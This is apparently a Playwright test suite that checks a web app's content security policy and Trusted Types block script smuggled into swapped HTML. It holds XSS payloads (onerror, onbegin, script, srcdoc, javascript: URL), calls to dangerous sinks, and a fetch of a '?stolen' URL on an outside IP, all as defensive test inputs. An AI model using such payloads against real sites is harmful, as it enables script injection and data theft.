"""The content security policy and Trusted Types in a real browser: what an answer smuggles in does not run."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from support.live import Live, browser

if TYPE_CHECKING:
    from playwright.sync_api import Page, Route

ATTACKS = [
    '<tr><td><img src="/nothing" onerror="window.ran = 1"></td></tr>',
    "<tr><td><svg><animate onbegin='window.ran = 1'/></svg></td></tr>",
    "<tr><td><script>window.ran = 1</script></td></tr>",
    '<tr><td><iframe srcdoc="<script>parent.ran = 1</script>"></iframe></td></tr>',
    '<tr><td><a id="a" href="&#106;avascript:window.ran=1">x</a></td></tr>',
]
SINKS = ["innerHTML", "insertAdjacentHTML", "script text", "script address", "eval", "Function"]


@pytest.fixture(scope="module")
def page(mechanism: Live) -> Iterator[Page]:
    """The health professional's browser."""
    with browser() as open_page:
        yield open_page(mechanism, mechanism.facts["health"])


@pytest.fixture
def debrief(mechanism: Live, page: Page) -> Page:
    """The debrief, where cells are swapped, with every violation of the policy kept in `window.refused`."""
    page.unroute_all()
    page.goto(f"{mechanism.address}/visits/{mechanism.facts['visit']}/debrief/")
    page.evaluate(
        "() => { window.refused = []; document.addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective)) }"
    )
    return page


def swap(page: Page, answer: str) -> None:
    """Press a button that swaps, and let this be what the server says."""

    def fulfil(route: Route) -> None:
        route.fulfill(status=200, content_type="text/html; charset=utf-8", body=answer)

    page.route("**/debrief/add/**", fulfil)
    with page.expect_response("**/debrief/add/**"):
        page.locator("[hx-get*='/debrief/add/']").first.click()
    page.wait_for_timeout(300)


def test_swap_when_the_answer_is_harmless_is_inserted(debrief: Page) -> None:
    swap(debrief, '<tr id="came"><td>Nothing but words.</td></tr>')
    assert debrief.locator("#came").count() == 1


@pytest.mark.parametrize("attack", ATTACKS, ids=["onerror", "onbegin", "script", "srcdoc", "javascript"])
def test_swap_when_the_answer_could_run_inserts_nothing(debrief: Page, attack: str) -> None:
    rows = debrief.locator("#debrief tr").count()
    swap(debrief, attack)
    assert debrief.evaluate("window.ran === undefined")
    assert debrief.locator("#debrief tr").count() == rows
    assert debrief.locator("[onerror], [onbegin], iframe, td script").count() == 0


def test_attack_when_a_policy_passed_everything_on_would_be_inserted_and_still_not_run(mechanism: Live, page: Page) -> None:
    """Shows that the attacks are real, and that two walls stand one behind the other."""
    through = "const all = (text) => text; window.trustedTypes.createPolicy('default', {createHTML: all, createScript: all});"
    page.unroute_all()
    page.route("**/kit/trusted.js", lambda route: route.fulfill(status=200, content_type="text/javascript", body=through))
    page.goto(f"{mechanism.address}/visits/{mechanism.facts['visit']}/debrief/")
    swap(page, ATTACKS[0])
    assert page.locator("img[onerror]").count() == 1
    assert page.evaluate("window.ran === undefined")


@pytest.mark.parametrize("sink", SINKS)
def test_sink_when_code_of_the_page_uses_it_refuses(debrief: Page, sink: str) -> None:
    # the browser's own tool would evaluate beside the policy: the attempt runs inside the page, after a click
    refused = debrief.evaluate(
        """(attempt) => new Promise((done) => {
          const made = {
            innerHTML: () => { document.createElement('div').innerHTML = '<b>x</b>'; },
            insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=1>'),
            'script text': () => { document.createElement('script').text = 'window.ran = 1'; },
            'script address': () => { document.createElement('script').src = '/static/kit/theme.js'; },
            eval: () => window.eval('window.ran = 1'),
            Function: () => new Function('window.ran = 1')(),
          };
          setTimeout(() => { try { made[attempt](); done(false); } catch { done(true); } });
        })""",
        sink,
    )
    assert refused
    assert debrief.evaluate("window.ran === undefined")


def test_elements_when_made_without_html_run_nothing_inline(debrief: Page) -> None:
    debrief.evaluate(
        """() => { const image = document.createElement('img');
          try { image.setAttribute('onerror', 'window.ran = 1'); } catch { window.refused.push('attribute'); }
          image.src = '/nothing-here'; document.body.append(image);
          const style = document.createElement('style'); style.textContent = 'body { display: none }'; document.head.append(style); }"""
    )
    debrief.wait_for_timeout(500)
    assert debrief.evaluate("window.ran === undefined")
    assert debrief.evaluate("getComputedStyle(document.body).display") != "none"
    assert debrief.evaluate("window.refused.some(one => one.startsWith('style-src'))")


def test_policy_when_something_elsewhere_is_asked_for_sends_nothing(debrief: Page) -> None:
    asked: list[str] = []
    debrief.on("request", lambda request: asked.append(request.url))
    blocked = debrief.evaluate("fetch('http://198.51.100.7/?stolen').then(() => false, () => true)")
    assert blocked
    assert debrief.evaluate("window.refused.includes('connect-src')")
    assert [url for url in asked if "198.51.100.7" in url] == []
